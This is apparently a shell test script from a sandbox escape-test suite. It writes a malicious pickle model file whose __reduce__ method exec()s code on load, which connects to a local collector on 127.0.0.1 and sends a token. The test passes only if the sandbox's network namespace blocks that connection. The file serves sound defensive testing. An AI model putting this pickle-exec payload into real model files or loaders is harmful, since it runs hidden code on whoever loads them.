# defence: netns
# A model file whose pickle payload phones home on load: __reduce__ runs
# exec() of code that connects to a collector and sends what it found. The
# collector here is a listener of the case on the host's 127.0.0.1 (loopback
# only); inside, the sandbox's 127.0.0.1 is its own network namespace's, and
# there is no other network: the connection must fail.
. "$REPO/tests/escape/lib.sh"
token="phone-home-$RANDOM$RANDOM"
python3 -c '
import os, socket, sys
s = socket.socket()
s.bind(("127.0.0.1", 0))
s.listen()
s.settimeout(20)
open(sys.argv[1] + ".tmp", "w").write(str(s.getsockname()[1]))
os.rename(sys.argv[1] + ".tmp", sys.argv[1])
while True:
    c, _ = s.accept()
    c.settimeout(2)
    data = b""
    try:
        while chunk := c.recv(100):
            data += chunk
    except OSError:
        pass
    open(sys.argv[2], "ab").write(b"connection: " + data + b"\n")
    c.close()' "$WORK/port" "$WORK/log" &
server=$!
trap 'kill $server 2>/dev/null' EXIT
for _ in $(seq 100); do [ -e "$WORK/port" ] && break; sleep 0.02; done
port=$(cat "$WORK/port") || broken "the collector did not start"
mkdir -m 755 "$WORK/model"
python3 - "$WORK/model/model.pkl" "$port" "$token" <<'PY' || broken "cannot write the pickle"
import pickle, sys

code = """
import socket
print("payload-ran", flush=True)
try:
    c = socket.create_connection(("127.0.0.1", %s), timeout=2)
    c.sendall(b"%s")
    c.close()
    print("phoned home", flush=True)
except OSError as e:
    print("payload: no connection:", e, flush=True)
""" % (sys.argv[2], sys.argv[3])

class Payload:
    def __reduce__(self):
        return (exec, (code,))

with open(sys.argv[1], "wb") as f:
    pickle.dump({"weights": [0.1, 0.2], "cfg": Payload()}, f)
PY
chmod 644 "$WORK/model/model.pkl"
# The victim's loader. (Without the mount namespace binds do not exist: the
# loader then finds the model at its host path. Not needed by this control.)
out=$(al --profile model-eval --ro "$WORK/model:/model" -- python3 -c '
import os, pickle, sys
path = "/model/model.pkl" if os.path.exists("/model") else sys.argv[1]
with open(path, "rb") as f:
    m = pickle.load(f)
print("loaded", sorted(m))' "$WORK/model/model.pkl" 2>&1)
echo "$out"
sleep 0.1
grep -q "$token" "$WORK/log" 2>/dev/null && escaped "the collector on the host's 127.0.0.1:$port got: $(head -1 "$WORK/log")"
[[ "$out" == *"phoned home"* ]] && escaped "the payload connected to 127.0.0.1:$port"
[ -s "$WORK/log" ] && escaped "the collector saw a connection: $(head -1 "$WORK/log")"
[[ "$out" == *"payload: no connection:"* ]] || broken "the payload did not run: $out"
contained "$(grep -m1 'payload: no connection:' <<<"$out")"
